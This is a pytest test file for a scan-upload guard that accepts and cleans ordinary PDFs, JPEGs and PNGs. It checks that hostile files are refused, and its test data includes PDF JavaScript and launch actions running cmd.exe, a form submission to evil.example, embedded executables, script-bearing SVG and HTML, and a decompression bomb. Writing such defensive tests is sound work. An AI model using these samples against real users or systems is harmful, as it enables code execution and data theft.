"""Hostile and broken scans are refused; what a scanner or a phone makes is accepted and written anew."""

import io
import random
import resource
import struct
import zlib
from contextlib import suppress

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from core import sandbox
from core.errors import Refused
from core.scans.guard import JPEG, MAX_BYTES, PDF, PNG, checked_scan
from core.scans.tasks import ORIENTATION, clean_scan
from core.tests.scan_files import (
    encrypted,
    jpeg_of_size,
    packed,
    pdf,
    picture,
    png_of_size,
    png_part,
    stream,
    zipped,
)

NOISE = random.Random(7).randbytes(4_000_000)
IMAGE = b"/Type/XObject/Subtype/Image/Width 9/Height 9/ColorSpace/DeviceGray/BitsPerComponent 8"
ACCEPTED = {
    "a PDF": (pdf(), PDF),
    "a PDF with objects packed": (packed(pdf()), PDF),
    "a PDF of a picture that contains /JS and /AA by chance": (
        pdf(stream(NOISE + b" /JS /AA /XFA ", IMAGE), catalog=b"/Used 4 0 R"),
        PDF,
    ),
    "a PDF with blanks behind its end": (pdf() + b"\r\n\0\0\r\n", PDF),
    "a PDF that opens at its first page": (pdf(catalog=b"/OpenAction[3 0 R/Fit]"), PDF),
    "a JPEG": (picture("JPEG", 2480, 3508), JPEG),
    "a progressive JPEG": (picture("JPEG", progressive=True), JPEG),
    "a JPEG padded by a camera": (picture("JPEG") + b"\0" * 8, JPEG),
    "a grey JPEG in 4:4:4": (picture("JPEG", subsampling=0), JPEG),
    "a PNG": (picture("PNG", 2480, 3508), PNG),
    "a PNG with a text": (picture("PNG")[:-12] + png_part(b"tEXt", b"Title\0scan") + picture("PNG")[-12:], PNG),
}
REFUSED = {
    "nothing": b"",
    "too much": pdf(stream(bytes(MAX_BYTES))),
    "a program": b"MZ\x90\0",
    "a text": "Bản án số 5".encode(),
    "a web page": b"<html><script>alert(7)</script></html>",
    "an SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)"/>',
    "a GIF": picture("GIF"),
    "a zip": zipped(),
    "an old Office container": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(512),
    "a web page before a PDF": b"<html>" + pdf(),
    "a PDF cut off": pdf()[:-8],
    "a PDF of no pages": pdf().replace(b"/Count 1", b"/Count 0").replace(b"[3 0 R]", b"[     ]"),
    "only a PDF's beginning and end": b"%PDF-1.5\n%%EOF\n",
    "a PDF with a zip behind it": pdf() + zipped(),
    "a PDF with a web page behind it": pdf() + b"<script>alert(7)</script>",
    "a PDF with a password": encrypted(pdf(), "mở"),
    "a PDF with a password for changes only": encrypted(pdf(), ""),
    "JavaScript": pdf(b"<</S/JavaScript/JS(app.alert(7))>>"),
    "JavaScript written with escapes": pdf(b"<</S/J#61v#61Script/J#53(x)>>"),
    "something done on opening": pdf(b"<</S/GoTo/D[3 0 R/Fit]>>", catalog=b"/OpenAction 4 0 R"),
    "something done on leaving a page": pdf(b"<</AA<</C 5 0 R>>>>"),
    "a program started": pdf(b"<</S/Launch/F(cmd.exe)>>"),
    "a file within": pdf(b"<</Names<</EmbeddedFiles 6 0 R>>>>", b"null", b"<<>>"),
    "one file within": pdf(stream(b"MZ", b"/Type/EmbeddedFile")),
    "a form of its own": pdf(b"<</AcroForm<</XFA(x)>>>>"),
    "a form that is sent": pdf(b"<</S/SubmitForm/F(http://evil.example)>>"),
    "JavaScript in a list in a list": pdf(b"[[<</A[<</S/JavaScript>>]>>]]"),
    "JavaScript packed away": packed(pdf(b"<</S/JavaScript>>", catalog=b"/Used 4 0 R")),
    "a short name packed away": packed(pdf(b"<</JS(x)>>", catalog=b"/Used 4 0 R")),
    "JavaScript packed where the index does not mention it": pdf(
        stream(zlib.compress(b"4 0 <</S/J#61vaScript>>"), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")
    ),
    "objects that hide between brackets": pdf(b"<</X(>>stream\n)/S/JavaScript/Y(endstream)>>"),
    "objects packed in a way we cannot read": pdf(stream(b"not packed at all", b"/Type/ObjStm/Filter/FlateDecode")),
    "a bomb of objects": pdf(stream(zlib.compress(bytes(300_000_000), 9), b"/Type/ObjStm/Filter/FlateDecode")),
    "a JPEG cut off": picture("JPEG")[:-2],
    "a JPEG without a frame": b"\xff\xd8\xff\xe0\0\x04ab\xff\xda\0\x02\xff\xd9",
    "a JPEG with a zip behind it": picture("JPEG") + zipped(),
    "a JPEG of four billion pixels": jpeg_of_size(65_535, 65_535),
    "a JPEG of no pixels": jpeg_of_size(0, 5),
    "a JPEG whose frame is beyond its end": b"\xff\xd8\xff\xe0\xff\xff\xff\xd9",
    "only a JPEG's beginning and end": b"\xff\xd8\xff\xff\xd9",
    "a PNG cut off": picture("PNG")[:-4],
    "a PNG of ten billion pixels": png_of_size(100_000, 100_000),
    "a PNG of no pixels": png_of_size(0, 0),
    "a PNG that holds less than it says": png_of_size(500, 500),
    "a PNG with a zip behind it": picture("PNG") + zipped(),
    "a PNG with a web page before its end": picture("PNG")[:-12] + b"<script>" + picture("PNG")[-12:],
    "a PNG whose part lies about its length": picture("PNG").replace(b"\0\0\0\x0dIHDR", b"\xff\xff\xff\xffIHDR"),
    "a PNG whose check fails": picture("PNG").replace(struct.pack(">II", 20, 30), struct.pack(">II", 30, 30)),
    "a PNG without a picture": b"\x89PNG\r\n\x1a\n" + png_part(b"IHDR", bytes(13)) + png_part(b"IEND"),
}


@pytest.mark.parametrize("name", ACCEPTED)
def test_what_scanners_and_phones_make_is_accepted(name):
    data, content_type = ACCEPTED[name]
    scan = checked_scan(data)
    assert scan.content_type == content_type
    assert checked_scan(scan.data).content_type == content_type


@pytest.mark.parametrize("name", REFUSED)
def test_what_no_scanner_makes_is_refused_with_words(name):
    with pytest.raises(Refused) as refusal:
        checked_scan(REFUSED[name])
    assert len(str(refusal.value)) > 15


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("nothing", "rỗng"),
        ("too much", "5 MB"),
        ("a PDF cut off", "cắt cụt"),
        ("a PDF with a password", "mật khẩu"),
        ("a PDF with a password for changes only", "mật khẩu"),
        ("JavaScript", "mã lệnh"),
        ("JavaScript packed away", "mã lệnh"),
        ("a file within", "tệp nhúng"),
        ("objects packed in a way we cannot read", "cấu trúc lạ"),
        ("a bomb of objects", "cấu trúc lạ"),
        ("a JPEG of four billion pixels", "quá lớn"),
        ("a PNG of ten billion pixels", "quá lớn"),
        ("a PNG cut off", "nguyên vẹn"),
    ],
)
def test_the_refusal_says_what_is_wrong(name, words):
    with pytest.raises(Refused, match=words):
        checked_scan(REFUSED[name])


# --- what is stored ------------------------------------------------------------------------------------------------------


def test_objects_that_the_document_does_not_use_are_left_out():
    data = clean_scan(pdf(b"(left behind)", b"(in use)", catalog=b"/Used 5 0 R"))
    assert b"(in use)" in data
    assert b"left behind" not in data


def test_bytes_between_the_objects_are_left_out():
    data = pdf()
    spoilt = data.replace(b"xref\n0", b"%<script>alert(7)</script>\nxref\n0", 1)
    start = b"startxref\n%d" % spoilt.index(b"xref\n0")
    spoilt = spoilt[: spoilt.index(b"startxref")] + start + b"\n%%EOF\n"
    assert b"script" not in clean_scan(spoilt)


def test_a_signed_document_stays_as_it_is():
    """A digital signature covers the file's bytes; written anew it would be invalid."""
    signature = b"<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 9 9 9]/Contents<00>>>"
    signed = pdf(signature, catalog=b"/AcroForm<</SigFlags 3/Fields[<</FT/Sig/V 4 0 R>>]>>")
    assert clean_scan(signed) == signed
    with pytest.raises(pikepdf.PdfError):
        clean_scan(signed.replace(b"startxref", b"startxxxx"))


def test_a_picture_loses_its_metadata_and_keeps_its_orientation():
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    exif[0x010E] = "ghi chú của máy"
    data = picture("JPEG", exif=exif, comment=b"secret", dpi=(300, 300))
    with Image.open(io.BytesIO(clean_scan(data))) as image:
        assert dict(image.getexif()) == {ORIENTATION: 6}
        assert "comment" not in image.info
        assert image.info["dpi"] == (300, 300)
    assert b"Title" not in clean_scan(ACCEPTED["a PNG with a text"][0])


def test_a_png_keeps_every_pixel():
    noise = Image.frombytes("RGB", (50, 40), NOISE[: 50 * 40 * 3])
    file = io.BytesIO()
    noise.save(file, "PNG")
    with Image.open(io.BytesIO(clean_scan(file.getvalue()))) as image:
        assert image.tobytes() == noise.tobytes()


# --- the process ---------------------------------------------------------------------------------------------------------


@given(st.binary(max_size=300), st.sampled_from(sorted(ACCEPTED)), st.integers(0, 2_000))
@settings(max_examples=200, deadline=None)
def test_a_broken_file_is_cleaned_or_raises_and_nothing_else(noise, name, at):
    """The sandbox turns any exception into a refusal; what is returned is whole again."""
    data = ACCEPTED[name][0][:20_000]
    for spoilt in (noise, data[:at] + noise + data[at + len(noise) :], data[:at]):
        cleaned = None
        with suppress(Exception):  # parsers raise many kinds
            cleaned = clean_scan(spoilt)
        if cleaned is not None:
            clean_scan(cleaned)


def test_a_parser_that_dies_is_a_refusal(monkeypatch):
    monkeypatch.setattr(sandbox, "SLOW_CPU_SECONDS", 0)
    with pytest.raises(Refused):
        checked_scan(pdf())


def test_the_largest_and_worst_cost_little_memory():
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for data in (REFUSED["a bomb of objects"], *(data for data, _type in ACCEPTED.values())):
        try:
            checked_scan(data)
        except Refused:
            continue
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 150 * 1024  # in kB
